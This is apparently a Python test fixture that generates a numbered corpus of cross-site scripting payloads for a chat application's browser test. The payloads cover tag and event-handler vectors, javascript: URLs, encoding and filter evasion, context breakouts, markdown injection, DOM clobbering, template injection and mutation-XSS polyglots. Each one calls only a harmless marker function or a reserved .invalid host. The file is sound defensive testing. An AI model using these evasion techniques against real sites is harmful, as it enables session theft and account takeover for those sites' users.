"""A deterministic corpus of XSS payloads for the browser test (tests/browser/test_xss.py).

No network, no downloaded lists: every payload is built here from templates of the known
classes of attack, combined with a few variations (case, separators, quoting). Payload
``n`` (its index in :data:`PAYLOADS`) executes nothing but ``__xss(n)`` and loads nothing
but ``http://xss-n.invalid/...``, so any execution or request it causes names it.

Every payload is distinct, has no leading or trailing white space (the chat strips it) and
no NUL or carriage return (PostgreSQL refuses NUL; HTML parsers turn CR into LF), so the
text stored is the text that must come back on the page.

Run ``python -m tests.xss_corpus`` to print the count of each class.
"""

from __future__ import annotations

import base64
import itertools
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass

# Placeholders of the templates: {js} is the call that proves execution, {host} a host name
# that proves a request, {n} the payload's number.
JS = "__xss({n})"
HOST = "xss-{n}.invalid"


@dataclass(frozen=True)
class Payload:
    number: int
    kind: str
    text: str


# --- Classes ------------------------------------------------------------------------------
# Each class is a list of templates (the table :data:`CLASSES` at the end); a template becomes
# a payload by formatting {js}, {host}, {n}. Literal braces in templates are doubled ({{ }}).


def _combine(slot: str, values: Iterable[str], forms: Iterable[str]) -> list[str]:
    """Every form with ``slot`` replaced by every value, the values in the outer loop."""
    return [form.replace(slot, value) for value, form in itertools.product(values, forms)]


def _case_variants(template: str) -> list[str]:
    """The template as written, in upper case and in alternating case (placeholders kept)."""
    upper: list[str] = []
    alternating: list[str] = []
    depth = 0
    flip = False
    for char in template:
        if char == "{":
            depth += 1
        if depth:
            upper.append(char)
            alternating.append(char)
        else:
            upper.append(char.upper())
            alternating.append(char.upper() if flip else char.lower())
            flip = not flip if char.isalpha() else flip
        if char == "}":
            depth -= 1
    return [template, "".join(upper), "".join(alternating)]


TAG_TEMPLATES = [
    "<script>{js}</script>",
    "<script>{js}//",
    "<script src=data:,{js}></script>",
    "<script src=http://{host}/x.js></script>",
    "<script type=module>{js}</script>",
    "<script>/*</script><script>*/{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror={js}//",
    "<img src onerror={js}>",
    "<img src=http://{host}/x.png>",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=1>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=http://{host}/></iframe>",
    "<iframe onload={js}></iframe>",
    "<frameset onload={js}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math><mi xlink:href=javascript:{js}>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    "<template><img src=x onerror={js}></template>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror={js}>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror={js}>'></noframes>",
    "<style>@import 'http://{host}/x.css';</style>",
    "<style>*{{background:url(http://{host}/x.png)}}</style>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=http://{host}/x.css>",
    "<link rel=prefetch href=http://{host}/>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<object data=javascript:{js}></object>",
    "<object data=http://{host}/x.swf></object>",
    "<embed src=javascript:{js}>",
    "<embed src=http://{host}/x.swf>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<keygen autofocus onfocus={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<isindex type=image src=x onerror={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url=http://{host}/'>",
    "<base href=http://{host}/>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<img srcset='x 1x' onerror={js}>",
    "<picture><source srcset=x><img src=x onerror={js}></picture>",
    "<xmp><img src=x onerror={js}></xmp>",
    "<listing><img src=x onerror={js}></listing>",
    "<table background=http://{host}/x.png>",
    "<div style=background:url(http://{host}/x.png)>x</div>",
    "<div style=animation-name:x onanimationstart={js}>x</div>",
    "<a href=javascript:{js} id=x tabindex=1 autofocus onfocus={js}>x</a>",
    "<x contenteditable onfocus={js} autofocus>x</x>",
    "<custom-tag onfocusin={js} tabindex=0 autofocus>x</custom-tag>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><img src=x onerror={js}>",
    "<!DOCTYPE html><img src=x onerror={js}>",
    "<svg><![CDATA[><image xlink:href=']]><img src=x onerror={js}>'></svg>",
    "<portal src=http://{host}/></portal>",
]

# What else may separate a tag's name from its first attribute (in place of the space).
TAG_SEPARATORS = ["/", "\n"]


def _tag_variants(template: str) -> list[str]:
    separated = [template.replace(" ", sep, 1) for sep in TAG_SEPARATORS if " " in template]
    return _case_variants(template) + separated


HANDLERS = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "onpointerenter",
    "onanimationstart",
    "onbegin",
    "ontoggle",
    "onscroll",
    "onauxclick",
    "onbeforeinput",
    "oncontentvisibilityautostatechange",
]

ATTRIBUTE_FORMS = [
    '" {h}="{js}',
    "' {h}='{js}",
    '" {h}={js} x="',
    "' {h}={js} x='",
    '"><img src=x {h}={js}>',
    "'><img src=x {h}={js}>",
    '" autofocus {h}={js} "',
    "x {h}={js}",
    "`{h}=`{js}",
    '"/{h}="{js}',
    '" {h}=&quot;{js}&quot;',
    '<img src=x {h}="{js}">',
    "<img src=x {h}='{js}'>",
    "<img src=x {h}=`{js}`>",
    "<img src=x {h}=\n{js}>",
    "<img src=x {h}   =   {js}>",
    "<img\tsrc=x\t{h}={js}>",
    "<img src=x {h}=' {js}'>",
]

SCHEMES = [
    "javascript:{js}",
    "JAVASCRIPT:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "java&#x09;script:{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript:{js}",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "javascript%3A{js}",
    "javascript:/*-->*/{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,{b64}",
    "data:image/svg+xml,<svg onload={js}>",
    "DaTa:text/html,<img src=x onerror={js}>",
    "vbscript:{js}",
    "VBScript:msgbox({n})",
    "//{host}/x",
    "http://{host}/x",
]

URL_CONTEXTS = [
    '<a href="{url}">link</a>',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><input type=submit></form>',
    '<img src="{url}">',
    '<object data="{url}"></object>',
    '<svg><a xlink:href="{url}"><text y=20>x</text></a></svg>',
    '<math href="{url}">x</math>',
    '<button formaction="{url}">x</button>',
    "{url}",
]

ENCODED_CORES = [
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    '"><script>{js}</script>',
]

MARKUP = "<>\"'"


def _per_char(escape: str, chars: str = MARKUP) -> Callable[[str], str]:
    """An encoder writing each of ``chars`` as ``escape`` formatted with its code point."""
    return lambda text: "".join(escape.format(ord(c)) if c in chars else c for c in text)


def _replacing(pairs: dict[str, str], count: int = -1) -> Callable[[str], str]:
    """An encoder making each replacement of ``pairs`` in turn (``count`` times each)."""

    def encode(text: str) -> str:
        for old, new in pairs.items():
            text = text.replace(old, new, count)
        return text

    return encode


def _base64_text(text: str) -> str:
    return "base64:" + base64.b64encode(text.encode()).decode() + " {n}"


# Every encoder leaves the placeholders' braces alone.
ENCODERS: dict[str, Callable[[str], str]] = {
    "entities_decimal": _per_char("&#{:d};"),
    "entities_hex": _per_char("&#x{:x};"),
    "entities_padded": _per_char("&#{:07d}", "<>"),
    "entities_named": _replacing({"<": "&lt;", ">": "&gt;", '"': "&quot;"}),
    "entities_named_no_semicolon": _replacing({"<": "&lt", ">": "&gt"}),
    "double_entities": _replacing({"<": "&amp;lt;", ">": "&amp;gt;"}),
    "percent": _per_char("%{:02X}"),
    "double_percent": _per_char("%25{:02X}"),
    "js_unicode": _per_char("\\u{:04x}"),
    "js_hex": _per_char("\\x{:02x}"),
    "css_escape": _per_char("\\{:x} "),
    "utf7": _replacing({"<": "+ADw-", ">": "+AD4-", '"': "+ACI-"}),
    "fullwidth": _replacing({"<": "\uff1c", ">": "\uff1e"}),
    "small_forms": _replacing({"<": "\ufe64", ">": "\ufe65"}),
    "overlong": _replacing({"<": "%C0%BC", ">": "%C0%BE"}),
    "nested_filter": _replacing(
        {"<script>": "<scr<script>ipt>", "<img": "<im<img>g", "<svg": "<sv<svg>g"}
    ),
    "zero_width": _replacing({"<": "<\u200b", "on": "o\u200cn"}, count=1),
    "bidi": lambda text: "\u202e" + text + "\u202c",
    "bom": lambda text: "\ufeff" + text,
    "homoglyph": _replacing({"script": "scr\u0456pt", "img": "\u0456mg"}),
    "base64_text": _base64_text,
}

ENCODED_EXTRA = [
    "+/v8-+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\\\x3cscript\\\\x3e{js}\\\\x3c/script\\\\x3e",
    "&lt;&#x2F;script&gt;&lt;script&gt;{js}&lt;&#x2F;script&gt;",
]

BREAKERS = [
    '">',
    "'>",
    "\">'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "</option></select>",
    "</xmp>",
    "</iframe>",
    "</noembed>",
    "</noframes>",
    "</a>",
    "</li></ol>",
    "</div></div>",
    "-->",
    "--!>",
    "]]>",
    "*/",
    '"}}]',
    "'}});",
    "</SCRIPT >",
    "</script\n>",
    "</script/x>",
    '"></time>',
    "</dd></dl>",
    "</h1>",
    "</span>",
]

BREAKOUT_INJECTIONS = [
    "<img src=x onerror={js}>",
    "<script>{js}</script>",
    "<svg/onload={js}>",
    "<iframe src=http://{host}/>",
]

MARKDOWN_TARGETS = [
    "javascript:{js}",
    "JavaScript:{js}",
    "javascript&#58;{js}",
    "java%0ascript:{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    "http://{host}/x",
]

MARKDOWN_FORMS = [
    "[click]({t})",
    "![img]({t})",
    "[click](<{t}>)",
    "[click]( {t} )",
    '[click]({t} "title")',
    "[click][r]\n\n[r]: {t}",
    "![img][r]\n\n[r]: {t}",
    "<{t}>",
    "[<img src=x onerror={js}>]({t})",
    "**[bold]({t})**",
    "[a](b)[click]({t})",
    "[![img](x)]({t})",
    '[click](#"onmouseover="{js}) {t}',
]

MARKDOWN_EXTRA = [
    '![x](x" onerror="{js})',
    "![x](x' onerror='{js})",
    '[x](x" onclick="{js})',
    "`<script>{js}</script>`",
    "```\n<img src=x onerror={js}>\n```",
    "> <img src=x onerror={js}>",
    "* <svg onload={js}>",
    "# <script>{js}</script>",
    "| a | <img src=x onerror={js}> |\n|---|---|",
    "<details><summary>x</summary>\n\n[x](javascript:{js})\n</details>",
    "__<img src=x onerror={js}>__",
    "~~<script>{js}</script>~~",
]


# Ids and names the chat's pages and chat.js look up (docs/frontend.md), and globals.
CLOBBERED_IDS = [
    "scc-config",
    "message-list",
    "scc-message-template",
    "composer",
    "connection-banner",
    "live-region",
    "typing-indicator",
    "my-rooms",
    "joinable-rooms",
    "older",
    "newer",
    "participants",
    "main",
    "scc-room-filter",
    "message-1",
    "crypto",
    "fetch",
    "IntersectionObserver",
    "WebSocket",
    "location",
]

CLOBBER_FORMS = [
    "<form id={id} data-xss={n}><input name=textContent value=x></form>",
    "<img name={id} src=x onerror={js}>",
    "<a id={id} href=javascript:{js}>x</a>",
    "<a id={id} name={id} href=http://{host}/>x</a>",
    "<iframe name={id} src=javascript:{js}></iframe>",
    "<object id={id} data=http://{host}/></object>",
    "<embed name={id} src=http://{host}/>",
    "<form name={id} data-xss={n}><img id=getAttribute name=getAttribute></form>",
]

CLOBBER_EXTRA = [
    '<script id=scc-config type=application/json>{{"wsUrl":"ws://{host}/","historyUrl":"http://{host}/"}}</script>',
    "<template id=scc-message-template><li><img src=x onerror={js}></li></template>",
    "<a id=older data-before=1 href=http://{host}/>older</a>",
    "<ol id=message-list><li class=scc-message data-id=1><img src=x onerror={js}></li></ol>",
    "<div class=scc-room data-room=x onmouseover={js}>x</div>",
    "<form id=composer action=http://{host}/><textarea name=content></textarea></form>",
    '<input id=scc-config value=\'{{"room":"x"}}\'>',
    "<img name=currentScript src=http://{host}/x>",
    "<form name=cookie><input name=x></form>",
    "<img id=defaultView name=defaultView>",
]

TEMPLATE_INJECTIONS = [
    "{{{{ {js} }}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{$on.constructor('{js}')()}}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "<%- {js} %>",
    "[[${{{js}}}]]",
    "@{{{js}}}",
    "{{{{{{ {js} }}}}}}",
    "{{% debug %}} {n}",
    "{{{{ settings.SECRET_KEY }}}} {n}",
    "{{{{ request.user.password }}}} {n}",
    "{{% include 'smartcampus_chat/base.html' %}} {n}",
    "{{{{7*7}}}} {n}",
    "${{7*7}} {n}",
    "%(name)s {n}",
    "%(other)s and %(count)s {n}",
    "%s%s%s%n {n}",
    "$& {n}",
    "$` {n}",
    "$' {n}",
    "$$ {n}",
    "$1 {n}",
    "__slug__ {n}",
    "`${{{js}}}`",
    "{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=1}} }};{js};//');}}}}",
    "<div ng-app ng-csp>{{{{$eval.constructor('{js}')()}}}}</div>",
    "<div v-html=\"'<img src=x onerror={js}>'\"></div>",
    "<div data-bind=\"html: '<img src=x onerror={js}>'\"></div>",
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={js} )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={js}//>\\x3e",
    "'\"--></style></script><script>{js}</script>",
    "\"'><img src=x onerror={js}>{{{{{js}}}}}${{{js}}}",
    "javascript://'/</title></style></textarea></script>--><p\" onclick={js}//>*/{js}//",
    "--></script></title></style>\"/</textarea><a' onclick={js} href=javascript:{js}>",
    "'\";{js};//</script><svg onload={js}>",
    "</script><svg><script>{js}</script>",
    '"><svg/onload={js}><"',
    "';{js};'\";{js};\"--></SCRIPT>\">'><SCRIPT>{js}</SCRIPT>",
    "<svg><style>{{font-family:'<iframe/onload={js}>'}}</style>",
    '<a href="javascript&colon;{js}">x</a><img src=x onerror={js}>',
    "%3Cscript%3E{js}%3C/script%3E<script>{js}</script>",
    "<scr\x0cipt>{js}</scr\x0cipt><img src=x onerror={js}>",
    "'\u2028<script>{js}</script>\u2029'",
    "<img src=`x`onerror={js}>",
    "<img/src/onerror={js}>",
    "<svg><a><animate attributeName=href values=javascript:{js} /><text x=20 y=20>x</text></a>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    '<svg></p><style><a id="</style><img src=x onerror={js}>">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="'
    '</style><img src=x onerror={js}>"></style></h1>',
]

CLASSES: dict[str, list[str]] = {
    "tag": [variant for template in TAG_TEMPLATES for variant in _tag_variants(template)],
    "attribute": _combine("{h}", HANDLERS, ATTRIBUTE_FORMS),
    # The chat strips messages: so must the bare " javascript:" URL be, here.
    "url": [url.strip() for url in _combine("{url}", SCHEMES, URL_CONTEXTS)],
    "encoding": [
        encode(core).strip() for encode, core in itertools.product(ENCODERS.values(), ENCODED_CORES)
    ]
    + ENCODED_EXTRA,
    "breakout": [
        breaker + injection
        for breaker, injection in itertools.product(BREAKERS, BREAKOUT_INJECTIONS)
    ],
    "markdown": _combine("{t}", MARKDOWN_TARGETS, MARKDOWN_FORMS) + MARKDOWN_EXTRA,
    "clobbering": _combine("{id}", CLOBBERED_IDS, CLOBBER_FORMS) + CLOBBER_EXTRA,
    "template": _combine("{t}", TEMPLATE_INJECTIONS, ["{t}", "<b>{t}</b>"]),
    "polyglot": [variant for template in POLYGLOTS for variant in _case_variants(template)],
}


def _fill(template: str, number: int) -> str:
    host = HOST.format(n=number)
    js = JS.format(n=number)
    b64 = base64.b64encode(f"<script>parent.{js}</script>".encode()).decode()
    return template.format(js=js, host=host, n=number, b64=b64)


def build() -> list[Payload]:
    """Every payload, numbered from 0, classes in :data:`CLASSES` order."""
    payloads: list[Payload] = []
    seen: set[str] = set()
    for kind, templates in CLASSES.items():
        for template in templates:
            # Distinct before numbering: two templates differing only by number don't count.
            if template in seen:
                continue
            seen.add(template)
            text = _fill(template, len(payloads))
            if text != text.strip() or "\x00" in text or "\r" in text:
                raise ValueError(f"payload {text!r} would not be stored as it is")
            payloads.append(Payload(len(payloads), kind, text))
    return payloads


PAYLOADS: list[Payload] = build()


def counts() -> dict[str, int]:
    return dict(Counter(p.kind for p in PAYLOADS))


if __name__ == "__main__":
    for kind, count in counts().items():
        print(f"{kind:12} {count:5}")
    print(f"{'total':12} {len(PAYLOADS):5}")
